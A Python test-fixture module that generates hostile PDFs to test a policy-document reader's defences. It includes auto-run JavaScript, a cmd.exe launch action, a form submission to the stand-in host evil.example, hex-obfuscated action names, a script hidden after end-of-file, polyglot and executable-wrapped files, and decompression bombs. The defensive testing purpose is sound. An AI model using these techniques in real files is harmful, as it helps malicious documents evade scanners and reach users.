"""Hostile PDFs: with actions, locked, cut off, two things at once, and bombs."""

from __future__ import annotations

import io
from collections.abc import Callable, Iterator

import pikepdf

from policies.tests.reading.builders import pdf, zipped

File = tuple[str, bytes]
_PDF = pdf("<h1>Coats Policy</h1><h2>1. Aims</h2><p>1.1 Coats hang on pegs.</p>")
_HIDDEN = b"\n9 0 obj <<%>>\nstream\n/S /JavaScript /JS (app.alert(1))\n%endstream\n>> endobj\n%%EOF"


def actions() -> Iterator[tuple[str, Callable[[], File]]]:
    """Scripts, launchers, senders, attachments: plain, and packed where only unpacking shows them."""
    script = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")
    launch = pikepdf.Dictionary(S=pikepdf.Name.Launch, F="cmd.exe")
    send = pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F="http://evil.example")
    actions = {
        "script": script,
        "launcher": launch,
        "sender": send,
        "importer": pikepdf.Dictionary(S=pikepdf.Name.ImportData, F="x"),
    }
    actions["long jump"] = pikepdf.Dictionary(S=pikepdf.Name.GoToE, D=pikepdf.Array([]))
    for packed in (False, True):
        for name, action in actions.items():
            yield (
                f"pdf {name} {packed}",
                _changed(lambda file, action=action: file.Root.__setattr__("OpenAction", action), packed),
            )
            yield (
                f"pdf {name} on a page {packed}",
                _changed(
                    lambda file, action=action: file.pages[0].__setattr__("AA", pikepdf.Dictionary(O=action)),
                    packed,
                ),
            )
        yield from _forms(packed)
    yield (
        "pdf script in other letters",
        lambda: (
            "policy.pdf",
            _plain_pdf().replace(
                b"/Type /Catalog", b"/OpenAction << /S /J#61v#61Script /#4a#53 (x) >> /Type /Catalog"
            ),
        ),
    )


def _forms(packed: bool) -> Iterator[tuple[str, Callable[[], File]]]:
    yield (
        f"pdf form {packed}",
        _changed(
            lambda file: file.Root.__setattr__(
                "AcroForm", pikepdf.Dictionary(XFA="x", Fields=pikepdf.Array([]))
            ),
            packed,
        ),
    )
    yield (
        f"pdf film {packed}",
        _changed(
            lambda file: file.Root.__setattr__("Extra", pikepdf.Dictionary(Subtype=pikepdf.Name.RichMedia)),
            packed,
        ),
    )
    yield (
        f"pdf attachment {packed}",
        _changed(lambda file: file.attachments.__setitem__("a.exe", b"MZ"), packed),
    )


def broken() -> Iterator[tuple[str, Callable[[], File]]]:
    """Locked, cut off, two things at once, bombs."""
    yield "pdf locked", _saved(encryption=pikepdf.Encryption(owner="o", user="u"))
    yield "pdf locked the old way", _saved(encryption=pikepdf.Encryption(owner="o", user="u", R=4))
    for share in (0.2, 0.5, 0.8):
        yield f"pdf cut at {share}", lambda share=share: ("policy.pdf", _PDF[: int(len(_PDF) * share)])
    yield "pdf of nothing", lambda: ("policy.pdf", b"%PDF-1.7\nrubbish\n%%EOF")
    yield "pdf behind a page", lambda: ("policy.pdf", b"<html><script>x</script>" + _PDF)
    yield "pdf behind a program", lambda: ("policy.pdf", b"MZ\x90\x00" + _PDF)
    yield "pdf with a script that looks like a stream", lambda: ("policy.pdf", _PDF + _HIDDEN)
    yield "pdf that is a zip", lambda: ("policy.pdf", _PDF + zipped({"a.exe": b"MZ"}))
    yield "pdf in a zip", lambda: ("policy.docx", b"PK\x03\x04" + _PDF)
    yield "pdf of a million objects", lambda: ("policy.pdf", _millions())
    yield (
        "pdf of packed millions",
        _changed(
            lambda file: file.Root.__setattr__(
                "Extra", pikepdf.Array([file.make_indirect(pikepdf.Dictionary(A=n)) for n in range(320_000)])
            ),
            True,
        ),
    )
    for name, piece in {
        "words": b"BT /F1 10 Tf 5 5 Td (Words) Tj ET ",
        "lines": b"0 0 m 9 9 l S ",
        "spaces": b"  ",
    }.items():
        yield (
            f"pdf bomb of {name}",
            _changed(
                lambda file, piece=piece: file.pages[0].__setattr__(
                    "Contents", file.make_stream(piece * (64_000_000 // len(piece)))
                ),
                True,
            ),
        )
    yield "pdf of too many pages", _changed(lambda file: [file.add_blank_page() for _ in range(301)], True)


def _changed(change: Callable[[pikepdf.Pdf], object], packed: bool) -> Callable[[], File]:
    def made() -> File:
        out = io.BytesIO()
        with pikepdf.open(io.BytesIO(_PDF)) as file:
            change(file)
            mode = pikepdf.ObjectStreamMode.generate if packed else pikepdf.ObjectStreamMode.disable
            file.save(out, object_stream_mode=mode, compress_streams=packed)
        return "policy.pdf", out.getvalue()

    return made


def _saved(**options: object) -> Callable[[], File]:
    def made() -> File:
        out = io.BytesIO()
        with pikepdf.open(io.BytesIO(_PDF)) as file:
            file.save(out, **options)  # type: ignore[arg-type]
        return "policy.pdf", out.getvalue()

    return made


def _plain_pdf() -> bytes:
    return _changed(lambda file: None, False)()[1]


def _millions() -> bytes:
    body = b"".join(b"%d 0 obj 1\n" % number for number in range(10, 1_000_010))
    return b"%PDF-1.7\n" + body + b"trailer<</Root 1 0 R>>\n%%EOF"
